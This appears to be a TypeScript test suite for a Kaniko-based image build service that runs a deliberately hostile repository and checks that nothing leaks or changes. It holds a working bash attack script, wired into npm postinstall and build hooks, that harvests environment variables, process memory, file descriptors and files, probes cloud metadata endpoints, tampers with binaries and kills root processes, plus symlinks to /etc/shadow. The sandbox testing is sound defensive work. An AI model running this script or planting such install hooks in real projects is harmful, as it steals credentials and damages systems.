import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Files, repository } from '../builder-images/harness.ts';
import { describeWith, tooSlow } from '../support/engines.ts';
import { KanikoWorld, missingKaniko } from './kanikoWorld.ts';

/** Runs as an install script and again in the build: takes what it can reach, changes what it may, leaves processes behind. */
const ATTACK = String.raw`#!/bin/bash
loot=/app/loot-$1; mkdir -p $loot
id >$loot/id; env >$loot/env
grep NoNewPrivs /proc/self/status >$loot/privileges
for p in /proc/[0-9]*; do
  { tr '\0' '\n' <$p/environ; } >>$loot/environ 2>/dev/null
  { tr '\0' ' ' <$p/cmdline; echo; } >>$loot/cmdline 2>/dev/null
  cat $p/fd/* >>$loot/descriptors 2>/dev/null </dev/null &
  reader=$!; sleep 0.05; kill $reader 2>/dev/null
  head -c 1 $p/mem >/dev/null 2>>$loot/mem && echo "read $p/mem" >>$loot/opened
done
find / -xdev -type f -size -200k -readable -not -path '/proc/*' -not -path '/app/*' -not -path '/usr/*' 2>/dev/null | head -5000 | xargs -d '\n' cat >$loot/files 2>/dev/null
find / -xdev -writable -not -type l -not -path '/proc/*' -not -path '/dev/*' -not -path '/app*' -not -path '/tmp*' 2>/dev/null >$loot/writable
for f in /kaniko/executor /kaniko/crane /kaniko/bin/node /kaniko/veren/build-image-backend/main.sh /opt/veren/run /opt/veren/step /opt/veren/init /opt/veren/source/server.js \
  /opt/veren/system/usr/bin/openssl /opt/veren/system/etc/ssl/certs/ca-certificates.crt /opt/veren/system/usr/bin/setpriv /opt/veren/libraries.mjs \
  /kaniko/work/*/context/Dockerfile /kaniko/work/*/context/veren/init /kaniko/work/*/layers/kept/x /etc/passwd /etc/ld.so.preload /usr/local/bin/node; do
  { echo evil >>$f; } 2>/dev/null && echo "wrote $f" >>$loot/changed
  mv $f $f.evil 2>/dev/null && echo "moved $f" >>$loot/changed
done
mv /kaniko /kaniko2 2>/dev/null && echo 'moved /kaniko' >>$loot/changed
for pid in $(ls /proc | grep -E '^[0-9]+$'); do
  [ "$(stat -c %u /proc/$pid 2>/dev/null)" = 0 ] && kill -9 $pid 2>/dev/null && echo "killed $pid" >>$loot/changed
done
for url in "http://169.254.170.2/" "http://169.254.169.254/latest/meta-data/"; do curl -s -m 1 $url >>$loot/metadata 2>/dev/null; done
unshare -Ur id >>$loot/changed.unshare 2>/dev/null
mount -t tmpfs tmpfs /mnt 2>/dev/null && echo 'mounted' >>$loot/changed
# Daemons that outlive the step and want a place in the image.
for n in 1 2; do
  setsid bash -c 'trap "" TERM HUP INT; while :; do for d in /app /tmp /home/node /opt/veren /etc /usr/local/bin /var/tmp; do echo evil >$d/left-behind 2>/dev/null; done; sleep 0.2; done' >/dev/null 2>&1 </dev/null &
done
for n in $(seq 40); do (sleep 300 &) 2>/dev/null; done
exit 0
`;

describeWith(tooSlow ?? missingKaniko(), 'a hostile repository during an image build', () => {
  let kaniko: KanikoWorld;
  let built: Awaited<ReturnType<KanikoWorld['build']>>;
  let image: ReturnType<KanikoWorld['pull']>;
  let changes: string[];
  let before: string;
  const GIT_TOKEN = 'git-token-of-the-platform-9f3b';

  beforeAll(async () => {
    kaniko = await new KanikoWorld().start();
    const files: Files = {
      'package.json': JSON.stringify({
        name: 'hostile',
        scripts: { postinstall: 'bash attack.sh install', build: 'bash attack.sh build', start: 'node server.js' },
      }),
      'package-lock.json': JSON.stringify({
        name: 'hostile',
        lockfileVersion: 3,
        packages: { '': { name: 'hostile' } },
      }),
      'attack.sh': { script: ATTACK },
      'server.js': 'require("http").createServer((q, r) => r.end("hostile")).listen(process.env.PORT)',
      'link-environ': { link: '/proc/1/environ' },
      'link-shadow': { link: '/etc/shadow' },
      'link-control': { link: '../../control' },
      Dockerfile: 'FROM scratch\nCOPY --from=0 / /\n',
      '.dockerignore': 'veren\n',
    };
    const repo = repository(join(kaniko.world.dir, 'hostile'), files);
    before = sha256(join(kaniko.home, 'root/kaniko/executor'));
    built = await kaniko.build({
      ...repo,
      projectId: 'hostile',
      env: { BUILDCOMMAND: 'npm run build', GIT_TOKEN, VEREN_BUILD_PROCESSES: '1000' },
      changed: join(kaniko.dir, 'changed'),
    });
    changes = readFileSync(join(kaniko.dir, 'changed'), 'utf8').split('\n');
    // What it printed is the only trace of an attack that ended the build.
    if (built.code !== 0)
      throw new Error([built.output, built.log.slice(-3_000), JSON.stringify(built.last)].join('\n'));
    image = kaniko.pull(built.tag);
  }, 240_000);
  afterAll(() => kaniko.close());

  const sha256 = (file: string) => execFileSync('sha256sum', [file], { encoding: 'utf8' }).split(' ')[0]!;
  const loot = (name: string) =>
    ['install', 'build']
      .map((step) => join(image.root, 'app', `loot-${step}`, name))
      .map((file) => (existsSync(file) ? readFileSync(file, 'latin1') : ''))
      .join('\n');

  test('the build itself ends well, and nothing of it hangs on', () => {
    expect(built.last).toMatchObject({ type: 'build.succeeded' });
    expect(loot('id')).toMatch(/uid=1000\(node\)/);
  });

  test('no credential was to be found: environments, arguments, descriptors, memory, files', () => {
    const secrets = [
      built.env.AWS_ACCESS_KEY_ID,
      built.env.AWS_SECRET_ACCESS_KEY,
      built.env.AWS_SESSION_TOKEN,
      GIT_TOKEN,
    ] as string[];
    for (const name of ['env', 'environ', 'cmdline', 'descriptors', 'files', 'metadata'])
      for (const secret of secrets) expect(loot(name).includes(secret)).toBe(false);
    expect(loot('env')).not.toMatch(/^(?:AWS_|KAFKA_|GIT_|VEREN_HANDOVER)/m);
    // The search did search.
    expect(loot('cmdline')).toContain('--no-push');
    expect(loot('files').length).toBeGreaterThan(1_000);
    expect(loot('opened')).not.toMatch(/\/proc\/1\//);
  });

  test('nothing of ours could be changed, ended or gained', () => {
    expect(loot('changed').trim()).toBe('');
    expect(loot('privileges')).toMatch(/NoNewPrivs:\s+1/);
    const writable = loot('writable')
      .split('\n')
      .filter((path) => path.startsWith('/kaniko') || path.startsWith('/etc') || path.startsWith('/usr'));
    expect(writable).toEqual([]);
    expect(changes).toContain('./app/server.js');
    expect(changes.filter((path) => /^\.\/kaniko\/(?:executor|crane|bin|veren)/.test(path))).toEqual([]);
    expect(sha256(join(kaniko.home, 'root/kaniko/executor'))).toBe(before);
  });

  test('the image holds the base, its OpenSSL and certificates, the application and nothing else', () => {
    const list = (name: string) =>
      new Map(
        execFileSync(
          'sh',
          ['-c', `"$0" export --insecure "$1" - | tar -tvf - --numeric-owner`, join(kaniko.home, 'bin/crane'), name],
          {
            encoding: 'utf8',
            maxBuffer: 1 << 28,
          },
        )
          .split('\n')
          .filter((line) => line !== '')
          .map((line) => {
            const [mode, owner, size, , , ...path] = line.split(/\s+/);
            return [
              path.join(' ').replace(/\/$/, ''),
              line.startsWith('d') ? `${mode} ${owner}` : `${mode} ${owner} ${size}`,
            ] as const;
          }),
      );
    const base = list(`${kaniko.registry}/library/node:20-bullseye-slim`);
    const made = list(kaniko.image(built.tag));
    const extra = [...made].filter(([path, what]) => base.get(path) !== what).map(([path]) => path);
    const outside = extra.filter((path) => !/^(?:app(?:\/|$)|opt\/veren(?:\/|$))/.test(path));
    // OpenSSL and certificates, as the base image of the build has them. The archived Kaniko writes `/` itself into its layers.
    const full = list(`${kaniko.registry}/library/node:20-bullseye`);
    const system = /^(?:etc|usr)(?:$|\/(?:ssl|share|bin|lib)(?:$|\/))/;
    expect(outside.filter((path) => path !== '' && (!system.test(path) || full.get(path) !== made.get(path)))).toEqual(
      [],
    );
    expect(made.has('usr/bin/openssl')).toBe(true);
    expect(made.get('') ?? 'drwxr-xr-x 0/0').toBe('drwxr-xr-x 0/0');
    expect(extra.filter((path) => path.startsWith('opt/veren')).sort()).toEqual([
      'opt/veren',
      'opt/veren/init',
      'opt/veren/tools',
      'opt/veren/tools/environment',
    ]);
    // Links stay links: what they point at was not read. crane does not export one that leads out of the image (link-control).
    expect([...made.keys()].filter((path) => path.startsWith('app/link-')).sort()).toEqual([
      'app/link-environ -> /proc/1/environ',
      'app/link-shadow -> /etc/shadow',
    ]);
    expect(readFileSync(join(image.root, 'opt/veren/init'), 'utf8')).toContain('First process');
  });

  test('the image still runs as node, with our init in front', () => {
    expect(image.config).toMatchObject({ User: 'node', Entrypoint: ['/opt/veren/init'], Cmd: ['node', 'server.js'] });
  });
});
